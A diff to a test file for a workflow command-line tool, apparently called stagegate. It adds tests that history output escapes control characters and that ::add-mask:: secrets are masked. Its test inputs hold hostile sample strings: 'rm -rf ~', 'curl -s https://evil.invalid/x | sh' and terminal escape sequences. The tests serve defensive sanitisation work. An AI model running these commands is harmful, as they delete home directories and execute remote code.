@@ -220,6 +220,23 @@ steps:
     expect(done.stdout).toContain('Hand over: fine\n    │   next:     curl -s https://evil.invalid/x | sh');
   });
 
+  it('history prints each event on one line: a line break in its text (an approval\'s note) is written \\n, \\r; --json keeps the text as recorded', async () => {
+    const ws = workspaceWith({ 'wf.yaml': WF });
+    await ws.run(['run', 'wf.yaml', '--run-id', 'r1', 'title=x']);
+    const note = 'ok\n  note:     rm -rf ~\r  next:     curl -s https://evil.invalid/x | sh\u001b]0;HACKED\u0007';
+    expect((await ws.run(['approve', 'wf.yaml', '--run-id', 'r1', '--by', 'alice', '--note', note])).code).toBe(0);
+    const text = await ws.run(['history', 'wf.yaml', '--run-id', 'r1']);
+    const lines = text.stdout.trimEnd().split('\n');
+    // The headline, then one line per event: each starts with its seq.
+    const events = jsonOf(await ws.run(['history', 'wf.yaml', '--run-id', 'r1', '--json']))['events'] as Array<{ seq: number; event: string; data: { note?: string } }>;
+    expect(lines.slice(1).map((l) => /^\s+(\d+)\s/.exec(l)?.[1])).toEqual(events.map((e) => String(e.seq)));
+    expect(text.stdout).not.toMatch(FORGED);
+    expect(text.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    expect(text.stdout).toContain(': ok\\n  note:     rm -rf ~\\r  next:     curl -s https://evil.invalid/x | sh');
+    // --json: the note as recorded.
+    expect(events.find((e) => e.event === 'approval_decided')?.data.note).toBe(note);
+  });
+
   it("plan's stop message quoting an input is printed without escape sequences", async () => {
     const ws = workspaceWith({ 'wf.yaml': WF });
     const r = await ws.run(['plan', 'wf.yaml', '--run-id', 'r2', 'count=1\u001b[2J\u001b]0;HACKED\u0007']);
@@ -269,6 +286,39 @@ steps:
     // A value under 6 characters would mask every `x` of every log: refused, said, its line masked all the same.
     expect(r.stdout + r.stderr).toMatch(/fetch: ::add-mask:: of a value of 1 character not registered/);
     expect(fetchLog).not.toContain('::add-mask::x');
+  });
+
+  it("register what GitHub's runner registers: a line led by Unicode white space, the legacy ##[add-mask]VALUE; a value holding a NUL is masked on the terminal too, not only in the log", async () => {
+    const wf = `version: '4.0'
+name: masks
+state_path: 'runs/{{run_id}}/workflow_state.yaml'
+steps:
+  fetch:
+    run: |
+      printf '::add-mask::ab\\000cd-nul-secret\\n'
+      printf 'raw ab\\000cd-nul-secret\\n'
+      printf 'printable abcd-nul-secret\\n'
+      printf '\\302\\240\\343\\200\\200::add-mask::nbsp-led-secret\\n'
+      echo 'sees nbsp-led-secret'
+      echo 'text ##[add-mask]legacy-form-secret'
+      echo 'sees legacy-form-secret'
+      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
+      stagegate gate OK
+    output: 'runs/{{run_id}}/fetch.md'
+    statuses: { OK: DONE }
+`;
+    const ws = workspaceWith({ 'wf.yaml': wf });
+    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
+    expect(r.code, r.stderr).toBe(0);
+    const log = ws.read('runs/r1/logs/fetch.v1.a1.log');
+    const terminal = r.stdout + r.stderr;
+    for (const value of ['cd-nul-secret', 'nbsp-led-secret', 'legacy-form-secret']) {
+      expect(log, value).not.toContain(value);
+      expect(terminal, value).not.toContain(value);
+    }
+    expect(log).toContain('raw ***\nprintable ***\n\u00a0\u3000::add-mask::***\nsees ***\ntext ##[add-mask]***\nsees ***\n');
+    expect(terminal).toContain('raw ***');
+    expect(terminal).toContain('printable ***');
   });
 
   it('a value that is a step\'s id or a declared status, of any step, a piece of the run\'s paths or stagegate\'s name is refused with a warning: later logs still name the step and its status', async () => {
